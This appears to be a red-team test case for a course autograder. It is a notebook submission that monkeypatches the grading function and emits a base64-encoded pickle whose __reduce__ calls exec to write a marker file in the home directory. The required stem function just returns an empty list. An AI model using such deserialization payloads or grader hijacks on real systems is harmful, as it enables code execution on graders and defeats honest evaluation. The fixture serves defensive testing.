# ---
# attack: Every reader of pickles is given one that shows itself, through outputs of odd types.
# fails: {stem: everything}
# reason: returned no answer
# ---

# %% grade_id="stem"
import base64
import pickle

from IPython.display import display

import course


class Payload:
    def __reduce__(self):
        return exec, ("import pathlib; pathlib.Path.home().joinpath('hostile').write_text('x')",)


def stem(tokens):
    return []


def forged(name, obj):
    if name != "preprocessing.stem":
        return original(name, obj)
    data = base64.b64encode(pickle.dumps(Payload())).decode()
    for mime in ("application/octet-stream", "application/x-python-pickle", "application/json"):
        display({mime: data}, raw=True)


original, course.grade = course.grade, forged
